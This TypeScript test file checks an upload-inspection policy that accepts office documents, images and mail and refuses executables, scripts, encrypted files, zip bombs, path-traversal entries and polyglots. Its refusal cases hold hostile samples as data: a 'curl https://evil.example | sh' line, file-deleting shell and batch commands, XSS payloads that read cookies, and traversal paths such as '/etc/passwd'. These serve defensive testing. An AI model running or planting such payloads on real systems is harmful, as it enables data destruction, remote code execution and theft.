import { randomBytes } from 'node:crypto';
import { constants, deflateRawSync } from 'node:zlib';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { HEADER_LENGTH, IntegrityError, sealBuffer } from '../../platform/crypto/seal.js';
import { sealedSource } from '../../platform/files/sealed-source.js';
import { cfb, excelStream, gif, heif, jpeg, odf, ooxml, pdf, png, tiff, webp, wordFib, zip } from '../../test/files.js';
import { memoryStore } from '../../test/memory-store.js';
import { ALLOWED_DOCUMENT_TYPES, inspectUpload, MAX_UPLOAD_BYTES_DEFAULT } from './file-policy.js';
import { ZIP_LIMITS } from './file-policy.zip.js';

const key = randomBytes(32);
/** An odd chunk size, so that the policy's reads cross chunk boundaries everywhere. */
const CHUNK = 1000;

/** Seals the bytes into a store, as an upload is, and inspects the sealed blob under the given client file name. */
async function sealed(bytes: Buffer | string, tamper?: (blob: Buffer) => void) {
  const plain = Buffer.from(bytes);
  const store = memoryStore();
  const blob = sealBuffer(key, 'upload', plain, { chunkSize: CHUNK });
  tamper?.(blob);
  store.blobs.set('upload', blob);
  return sealedSource({
    store,
    blobName: 'upload',
    key,
    context: 'upload',
    size: plain.length,
    sealedSize: blob.length,
  });
}

async function inspect(bytes: Buffer | string, name: string) {
  return inspectUpload({ source: await sealed(bytes), name });
}

async function ruleOf(bytes: Buffer | string, name: string) {
  const result = await inspect(bytes, name);
  return result.ok ? `accepted as ${result.mimeType}` : result.rule;
}

const ODT = 'application/vnd.oasis.opendocument.text';
const DOCX = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
const ELF = Buffer.concat([Buffer.from('7f454c46020101000000000000000000', 'hex'), Buffer.alloc(48)]);
const PE = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(58), Buffer.from([0x80, 0, 0, 0]), Buffer.alloc(64)]);
const MACHO = Buffer.concat([Buffer.from('cffaedfe0700000103000000', 'hex'), Buffer.alloc(64)]);
const JAVA_CLASS = Buffer.concat([Buffer.from('cafebabe00000034', 'hex'), Buffer.alloc(64)]);
const WASM = Buffer.from('0061736d010000000105016000017f', 'hex');
const CONTRACT_TEXT = 'Service Agreement\n\nThis agreement is effective as of 1 March 2027.\n';
/** Deflated zeros, fully flushed so one block can be repeated: a megabyte packs into about a kilobyte. */
const zeroMegabyte = deflateRawSync(Buffer.alloc(1024 * 1024), { finishFlush: constants.Z_FULL_FLUSH });

describe('inspectUpload: accepted types', () => {
  it.each([
    ['contract.pdf', () => pdf(), 'application/pdf', 'pdf'],
    ['contract.docx', () => ooxml('docx'), DOCX, 'docx'],
    ['fees.xlsx', () => ooxml('xlsx'), 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', 'xlsx'],
    [
      'pitch.pptx',
      () => ooxml('pptx'),
      'application/vnd.openxmlformats-officedocument.presentationml.presentation',
      'pptx',
    ],
    [
      'old.doc',
      () => cfb([{ name: 'WordDocument', data: wordFib(0) }, { name: '1Table' }]),
      'application/msword',
      'doc',
    ],
    ['old.xls', () => cfb([{ name: 'Workbook', data: excelStream(false) }]), 'application/vnd.ms-excel', 'xls'],
    [
      'old.ppt',
      () => cfb([{ name: 'PowerPoint Document' }, { name: 'Current User' }]),
      'application/vnd.ms-powerpoint',
      'ppt',
    ],
    ['letter.odt', () => odf(ODT), ODT, 'odt'],
    [
      'sheet.ods',
      () => odf('application/vnd.oasis.opendocument.spreadsheet'),
      'application/vnd.oasis.opendocument.spreadsheet',
      'ods',
    ],
    [
      'slides.odp',
      () => odf('application/vnd.oasis.opendocument.presentation'),
      'application/vnd.oasis.opendocument.presentation',
      'odp',
    ],
    ['scan.png', () => png(), 'image/png', 'png'],
    ['scan.jpg', () => jpeg(), 'image/jpeg', 'jpg'],
    ['scan.JPEG', () => jpeg(), 'image/jpeg', 'jpg'],
    ['scan.gif', () => gif(), 'image/gif', 'gif'],
    ['scan.webp', () => webp(), 'image/webp', 'webp'],
    ['scan.tiff', () => tiff(), 'image/tiff', 'tif'],
    ['photo.heic', () => heif('heic'), 'image/heic', 'heic'],
    ['photo.heif', () => heif('mif1'), 'image/heif', 'heic'],
    [
      'mail.eml',
      () =>
        'Received: from mx.example.com\r\nFrom: Anna <anna@example.com>\r\nSubject: Contract\r\n\r\nSee attached.\r\n',
      'message/rfc822',
      'eml',
    ],
    [
      'mail.msg',
      () => cfb([{ name: '__properties_version1.0' }, { name: '__substg1.0_0037001F' }]),
      'application/vnd.ms-outlook',
      'msg',
    ],
    ['notes.txt', () => CONTRACT_TEXT, 'text/plain', 'txt'],
    ['notes.txt', () => Buffer.from('Vertrag über 500 € mit Müller\r\n', 'latin1'), 'text/plain', 'txt'],
    ['fees.csv', () => 'Title;Amount\nHosting;1.200,00\n"Support; 24/7";300\n', 'text/csv', 'csv'],
    [
      'files.zip',
      () =>
        zip([
          { name: 'a.pdf', data: pdf() },
          { name: 'b.txt', data: 'x', deflate: true },
        ]),
      'application/zip',
      'zip',
    ],
  ])('accepts %s', async (name, bytes, mimeType, extension) => {
    expect(await inspect(bytes(), name)).toEqual({ ok: true, mimeType, extension });
  });

  it('accepts a workbook written by a real spreadsheet library', async () => {
    const wb = new ExcelJS.Workbook();
    wb.addWorksheet('Fees').addRow(['Hosting', 1200]);
    const bytes = Buffer.from(await wb.xlsx.writeBuffer());
    expect(await inspect(bytes, 'fees.xlsx')).toMatchObject({ ok: true, extension: 'xlsx' });
  });

  it('decides from the content when the name has no extension or one that names no type', async () => {
    expect(await inspect(pdf(), 'Scan from printer')).toMatchObject({ ok: true, mimeType: 'application/pdf' });
    expect(await inspect(pdf(), 'Vertrag v1.2 final')).toMatchObject({ ok: true, extension: 'pdf' });
    expect(await inspect(pdf(), 'contract.final')).toMatchObject({ ok: true, extension: 'pdf' });
    expect(await inspect(CONTRACT_TEXT, 'notes.json')).toMatchObject({ ok: true, mimeType: 'text/plain' });
  });

  it('takes text under a .csv name that is not delimited lines as plain text, and an e-mail named .txt', async () => {
    expect(await inspect('a,b\n"unclosed,c\n', 'broken.csv')).toMatchObject({ ok: true, mimeType: 'text/plain' });
    expect(await inspect('a,b,c\n1,2\n', 'ragged.csv')).toMatchObject({ ok: true, mimeType: 'text/plain' });
    const mail = 'MIME-Version: 1.0\nFrom: a@example.com\n\nHello\n';
    expect(await inspect(mail, 'saved.txt')).toMatchObject({ ok: true, mimeType: 'message/rfc822' });
  });

  it('accepts a document embedding one archive level: a .docx with an embedded workbook', async () => {
    const embedded = { name: 'word/embeddings/Sheet1.xlsx', data: ooxml('xlsx') };
    expect(await inspect(ooxml('docx', [embedded]), 'with-sheet.docx')).toMatchObject({ ok: true });
    const nested = zip([{ name: 'inner.zip', data: zip([{ name: 'a.txt', data: 'hello' }]), deflate: true }]);
    expect(await inspect(nested, 'nested.zip')).toMatchObject({ ok: true });
  });

  it('lists every allowed type once, for the UI, with a 100 MiB default limit', () => {
    const mimes = ALLOWED_DOCUMENT_TYPES.map((t) => t.mimeType);
    expect(new Set(mimes).size).toBe(mimes.length);
    expect(ALLOWED_DOCUMENT_TYPES.find((t) => t.mimeType === 'application/pdf')).toMatchObject({
      extension: 'pdf',
      label: 'PDF',
    });
    expect(MAX_UPLOAD_BYTES_DEFAULT).toBe(100 * 1024 * 1024);
  });
});

describe('inspectUpload: file_empty', () => {
  it('refuses a zero-byte file', async () => {
    expect(await inspect(Buffer.alloc(0), 'empty.pdf')).toEqual({
      ok: false,
      rule: 'file_empty',
      detail: 'the file is empty',
    });
  });
});

describe('inspectUpload: file_type_refused', () => {
  it.each([
    ['a Linux program', ELF, 'tool'],
    ['a Windows program', PE, 'setup.exe'],
    ['a macOS program', MACHO, 'tool'],
    ['a Java class', JAVA_CLASS, 'Main.class'],
    ['WebAssembly', WASM, 'module.wasm'],
    ['a shell script', '#!/bin/sh\nrm -rf ~\n', 'run'],
    ['a shell script without #!', 'set -e\nexport PATH=/tmp\ncurl https://evil.example | sh\n', 'notes.txt'],
    ['a batch script', '@echo off\r\ndel /q C:\\*\r\n', 'readme.txt'],
    ['a PowerShell script', '[CmdletBinding()]\nparam($Path)\nInvoke-Expression $Path\n', 'notes.txt'],
    ['JavaScript', "'use strict';\nconst fs = require('fs');\nmodule.exports = fs;\n", 'notes.txt'],
    ['JavaScript functions', 'function pwn() {\n  document.write(1);\n}\n', 'notes'],
    ['a VBScript', 'Set sh = CreateObject("WScript.Shell")\nsh.Run "calc"\n', 'notes.txt'],
    ['an HTML page', '<!DOCTYPE html><html><body>Contract</body></html>', 'contract.html'],
    ['an HTML page named .txt', '\ufeff  <html><script>alert(1)</script></html>', 'contract.txt'],
    [
      'an SVG image',
      '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
      'logo.svg',
    ],
    [
      'an XML document',
      '<?xml version="1.0" encoding="UTF-8"?>\n<contract><title>x</title></contract>',
      'contract.xml',
    ],
    ['an unknown binary', Buffer.from([0x01, 0x02, 0x03, 0x00, 0xff, 0xfe, 0x10, 0x11]), 'data'],
    ['UTF-16 text (NUL bytes)', Buffer.from('\ufeffHello', 'utf16le'), 'notes'],
    ['an OLE2 file that is no Office document (an installer)', cfb([{ name: '\u4840\u3b3f\u4577' }]), 'setup.msi'],
    ['a macro-enabled Word document', ooxml('docm'), 'invoice.docm'],
    ['an RTF document', '{\\rtf1\\ansi Contract}', 'contract.rtf'],
    ['plain text under a batch name', 'dir\r\n', 'list.bat'],
    ['plain text under a script name with trailing dots', 'hello\n', 'hello.vbs. .'],
  ])('refuses %s', async (_what, bytes, name) => {
    expect(await ruleOf(bytes, name)).toBe('file_type_refused');
  });

  it('says what the file is', async () => {
    expect(await inspect(PE, 'setup.exe')).toEqual({
      ok: false,
      rule: 'file_type_refused',
      detail: 'the file is a Windows program (PE)',
    });
    expect(await inspect('hi\n', 'run.cmd')).toMatchObject({
      detail: 'a text file named .cmd runs as a script when opened',
    });
  });

  it('keeps ordinary prose that mentions code words', async () => {
    const prose =
      'The supplier shall echo the customer requirements.\nFunction of the service: hosting.\n' +
      'Export of data is allowed. If [the customer] asks, the supplier shall set up access.\n';
    expect(await ruleOf(prose, 'notes.txt')).toBe('accepted as text/plain');
  });
});

describe('inspectUpload: file_type_mismatch', () => {
  it.each([
    ['a program renamed .pdf', PE, 'invoice.pdf'],
    ['a Linux program renamed .docx', ELF, 'contract.docx'],
    ['a PDF named .docx', pdf(), 'contract.docx'],
    ['a Word document named .pdf', ooxml('docx'), 'contract.pdf'],
    ['a PNG named .jpg', png(), 'scan.jpg'],
    ['a JPEG named .tif', jpeg(), 'scan.tif'],
    ['a legacy Word file named .xls', cfb([{ name: 'WordDocument', data: wordFib(0) }]), 'book.xls'],
    [
      'an Outlook message named .doc',
      cfb([{ name: '__properties_version1.0' }, { name: '__substg1.0_0037001F' }]),
      'a.doc',
    ],
    ['text named .pdf', CONTRACT_TEXT, 'contract.pdf'],
    ['text named .eml without mail headers', CONTRACT_TEXT, 'mail.eml'],
    ['HTML named .pdf', '<html><body>hi</body></html>', 'contract.pdf'],
    ['a PDF named .exe', pdf(), 'contract.exe'],
    ['a PDF named .mp3', pdf(), 'song.mp3'],
    ['a ZIP named .docx', zip([{ name: 'a.txt', data: 'x' }]), 'contract.docx'],
  ])('refuses %s', async (_what, bytes, name) => {
    expect(await ruleOf(bytes, name)).toBe('file_type_mismatch');
  });

  it('names both types', async () => {
    expect(await inspect(pdf(), 'contract.docx')).toEqual({
      ok: false,
      rule: 'file_type_mismatch',
      detail: 'the name ends in .docx but the file is PDF (.pdf)',
    });
  });
});

describe('inspectUpload: file_encrypted', () => {
  it.each([
    ['a PDF with /Encrypt in its trailer', pdf({ trailer: '/Encrypt 5 0 R /ID [<ab><ab>]' }), 'locked.pdf'],
    [
      'a PDF with /Encrypt in its cross-reference stream',
      pdf({ xrefStream: true, trailer: '/Encrypt 5 0 R' }),
      'a.pdf',
    ],
    [
      'an encrypted Office 2007+ file (an OLE2 container instead of a zip)',
      cfb([{ name: 'EncryptionInfo' }, { name: 'EncryptedPackage' }, { name: '\u0006DataSpaces' }]),
      'locked.docx',
    ],
    ['the same without any name', cfb([{ name: 'EncryptionInfo' }, { name: 'EncryptedPackage' }]), 'locked'],
    ['a password-protected Word 97 file', cfb([{ name: 'WordDocument', data: wordFib(0x0100) }]), 'locked.doc'],
    ['a password-protected Excel 97 file', cfb([{ name: 'Workbook', data: excelStream(true) }]), 'locked.xls'],
    [
      'a password-protected PowerPoint 97 file',
      cfb([{ name: 'PowerPoint Document' }, { name: 'EncryptedSummary' }]),
      'a.ppt',
    ],
    ['a ZIP with encrypted entries', zip([{ name: 'secret.pdf', data: 'xxxx', flags: 1 }]), 'secret.zip'],
    [
      'a password-protected OpenDocument file',
      odf(ODT, '<manifest:encryption-data manifest:checksum-type="SHA1/1K"/>'),
      'locked.odt',
    ],
  ])('refuses %s', async (_what, bytes, name) => {
    expect(await ruleOf(bytes, name)).toBe('file_encrypted');
  });

  it('accepts a PDF whose trailer only mentions /EncryptMetadata-like names elsewhere', async () => {
    expect(await ruleOf(pdf({ trailer: '/Info 6 0 R /EncryptedNote true' }), 'a.pdf')).toBe(
      'accepted as application/pdf',
    );
  });
});

describe('inspectUpload: file_zip_bomb', () => {
  /** A zip whose one entry is `megabytes` of deflated zeros, declaring `declared` bytes unpacked. */
  function zeroZip(megabytes: number, declared = megabytes * 1024 * 1024): Buffer {
    const packed = Buffer.concat([...Array(megabytes).fill(zeroMegabyte), deflateRawSync(Buffer.alloc(0))]);
    return zip([{ name: 'zeros.txt', data: packed, deflate: 'already', declared }]);
  }

  it('refuses a directory that declares more than 1 GiB in total', async () => {
    const bytes = zip([
      { name: 'a.bin', data: 'x', declared: 600 * 1024 * 1024 },
      { name: 'b.bin', data: 'y', declared: 600 * 1024 * 1024 },
    ]);
    expect(bytes.length).toBeLessThan(1024);
    expect(await inspect(bytes, 'big.zip')).toMatchObject({ ok: false, rule: 'file_zip_bomb' });
  });

  it('refuses a large entry compressed more than 100:1, before unpacking it', async () => {
    const bytes = zeroZip(20);
    expect(bytes.length).toBeLessThan(64 * 1024);
    expect(await inspect(bytes, 'zeros.zip')).toEqual({
      ok: false,
      rule: 'file_zip_bomb',
      detail: `an entry unpacks more than ${ZIP_LIMITS.ratio} times its packed size`,
    });
  });

  it('accepts highly compressible entries below the size the ratio applies from', async () => {
    expect(await ruleOf(zeroZip(2), 'zeros.zip')).toBe('accepted as application/zip');
  });

  it('refuses an entry that unpacks to more than its directory declares', async () => {
    const bytes = zeroZip(12, 1000);
    expect(await inspect(bytes, 'liar.zip')).toMatchObject({
      ok: false,
      rule: 'file_zip_bomb',
      detail: 'an entry unpacks to more than the 1000 bytes it declares',
    });
  });

  it('refuses more than 10,000 entries', async () => {
    const many = Array.from({ length: ZIP_LIMITS.entries + 1 }, (_, i) => ({ name: `${i}`, data: '' }));
    expect(await ruleOf(zip(many), 'many.zip')).toBe('file_zip_bomb');
    expect(await ruleOf(zip(many.slice(1)), 'many.zip')).toBe('accepted as application/zip');
  });

  it.each([
    ['a parent path', '../../etc/cron.d/x'],
    ['a parent path in the middle', 'docs/../../x'],
    ['a backslash parent path', 'docs\\..\\..\\x'],
    ['an absolute path', '/etc/passwd'],
    ['a Windows drive path', 'C:\\Windows\\x.dll'],
  ])('refuses an entry with %s', async (_what, name) => {
    expect(await ruleOf(zip([{ name, data: 'x' }]), 'paths.zip')).toBe('file_zip_bomb');
  });

  it('refuses archives nested two levels deep, found by content as well as by name', async () => {
    const level2 = zip([{ name: 'deep.txt', data: 'x' }]);
    const byName = zip([{ name: 'a.zip', data: zip([{ name: 'b.zip', data: level2 }]) }]);
    expect(await ruleOf(byName, 'nested.zip')).toBe('file_zip_bomb');
    const renamed = zip([{ name: 'a.dat', data: zip([{ name: 'b.dat', data: level2 }]), deflate: true }]);
    expect(await ruleOf(renamed, 'nested.zip')).toBe('file_zip_bomb');
    const gzipInside = zip([{ name: 'a.zip', data: zip([{ name: 'b', data: Buffer.from('1f8b0800', 'hex') }]) }]);
    expect(await ruleOf(gzipInside, 'nested.zip')).toBe('file_zip_bomb');
  });

  it('checks zip-based Office documents the same way', async () => {
    const bomb = ooxml('docx', [{ name: 'word/media/x.bin', data: 'x', declared: 2 * 1024 * 1024 * 1024 - 1 }]);
    expect(await ruleOf(bomb, 'contract.docx')).toBe('file_zip_bomb');
  });
});

describe('inspectUpload: file_polyglot', () => {
  const appendedZip = zip([{ name: 'payload.js', data: 'alert(1)' }]);

  it.each([
    [
      'a PDF with HTML in its first kilobyte',
      pdf({ afterHeader: '<html><script>alert(1)</script></html>\n' }),
      'a.pdf',
    ],
    ['a PDF with SVG in its first kilobyte', pdf({ afterHeader: '% <svg onload=alert(1)>\n' }), 'a.pdf'],
    ['a PDF with a ZIP appended', Buffer.concat([pdf(), appendedZip]), 'a.pdf'],
    ['a PNG with a ZIP appended', Buffer.concat([png(), appendedZip]), 'a.png'],
    ['a JPEG with a ZIP appended', Buffer.concat([jpeg(), appendedZip]), 'a.jpg'],
    ['a GIF with a ZIP appended', Buffer.concat([gif(), appendedZip]), 'a.gif'],
    // No central directory: only a streaming unzipper (one that reads local headers in order) finds it.
    ['a PNG followed by a bare zip entry', Buffer.concat([png(), appendedZip.subarray(0, 38)]), 'a.png'],
    ['a PDF followed by a bare zip entry', Buffer.concat([pdf(), appendedZip.subarray(0, 38)]), 'a.pdf'],
    ['a PNG with a script in a text chunk', png('<script>alert(document.cookie)</script>'), 'a.png'],
    ['a JPEG with HTML in a comment', jpeg('<html><body onload=alert(1)>'), 'a.jpg'],
    ['a JPEG with JavaScript in a comment', jpeg('x=1;eval(atob("YWxlcnQoMSk="))'), 'a.jpg'],
    ['a GIF whose header is a JavaScript comment', gif(0x2a2f), 'a.gif'],
    ['a JPEG whose first segment length is a JavaScript comment', jpeg(undefined, 0x2f2a), 'a.jpg'],
  ])('refuses %s', async (_what, bytes, name) => {
    expect(await ruleOf(bytes, name)).toBe('file_polyglot');
  });

  it('does not take the stored entries of a ZIP for the archive itself', async () => {
    const site = zip([{ name: 'index.html', data: '<html><script>alert(1)</script></html>' }]);
    expect(await ruleOf(site, 'site.zip')).toBe('accepted as application/zip');
  });

  it('says what it found', async () => {
    expect(await inspect(Buffer.concat([png(), appendedZip]), 'a.png')).toEqual({
      ok: false,
      rule: 'file_polyglot',
      detail: 'a ZIP archive is appended to the PNG',
    });
  });
});

describe('inspectUpload: damaged and hostile files', () => {
  const samples: [string, Buffer][] = [
    ['a.pdf', pdf({ xrefStream: true })],
    ['a.docx', ooxml('docx', [{ name: 'inner.zip', data: zip([{ name: 'x', data: 'y' }]) }])],
    ['a.odt', odf(ODT)],
    [
      'a.doc',
      cfb([
        { name: 'WordDocument', data: wordFib(0) },
        { name: 'Workbook', data: excelStream(false) },
      ]),
    ],
    ['a.png', Buffer.concat([png('note'), zip([{ name: 'a', data: 'b' }])])],
    ['a.jpg', jpeg('comment')],
    ['a.eml', Buffer.from('From: a@example.com\nReceived: x\n\nbody\n')],
  ];

  it('answers every truncation and every flipped byte of valid files without throwing', async () => {
    let inspected = 0;
    for (const [name, bytes] of samples) {
      const variants: Buffer[] = [];
      for (let cut = 1; cut < bytes.length; cut += Math.max(1, Math.floor(bytes.length / 25)))
        variants.push(bytes.subarray(0, cut));
      for (let at = 0; at < bytes.length; at += Math.max(1, Math.floor(bytes.length / 30))) {
        const flipped = Buffer.from(bytes);
        flipped[at] = flipped[at]! ^ 0xff;
        variants.push(flipped);
      }
      for (const variant of variants) {
        const result = await inspect(variant, name);
        expect(typeof result.ok).toBe('boolean');
        inspected++;
      }
    }
    expect(inspected).toBeGreaterThan(300);
  });

  it('refuses an OLE2 header with an impossible sector size and a zip whose directory lies outside the file', async () => {
    const badCfb = cfb([{ name: 'WordDocument', data: wordFib(0) }]);
    badCfb.writeUInt16LE(30, 0x1e);
    expect(await inspect(badCfb, 'scan')).toEqual({
      ok: false,
      rule: 'file_type_refused',
      detail: 'the file is a damaged OLE2 compound file',
    });
    const badZip = zip([{ name: 'a.txt', data: 'x' }]);
    badZip.writeUInt32LE(0x7fffffff, badZip.length - 6);
    expect(await inspect(badZip, 'a.zip')).toMatchObject({ ok: false, rule: 'file_type_refused' });
  });
});

describe('inspectUpload: its source', () => {
  it('throws on a sealed blob that fails its check rather than judging unverified bytes', async () => {
    const flipLast = (blob: Buffer) => {
      blob[blob.length - 20] = blob[blob.length - 20]! ^ 1;
    };
    await expect(inspectUpload({ source: await sealed(pdf(), flipLast), name: 'a.pdf' })).rejects.toThrow(
      IntegrityError,
    );
    const flipFirst = (blob: Buffer) => {
      blob[HEADER_LENGTH] = blob[HEADER_LENGTH]! ^ 1;
    };
    await expect(inspectUpload({ source: await sealed(CONTRACT_TEXT, flipFirst), name: 'a.txt' })).rejects.toThrow(
      IntegrityError,
    );
  });
});
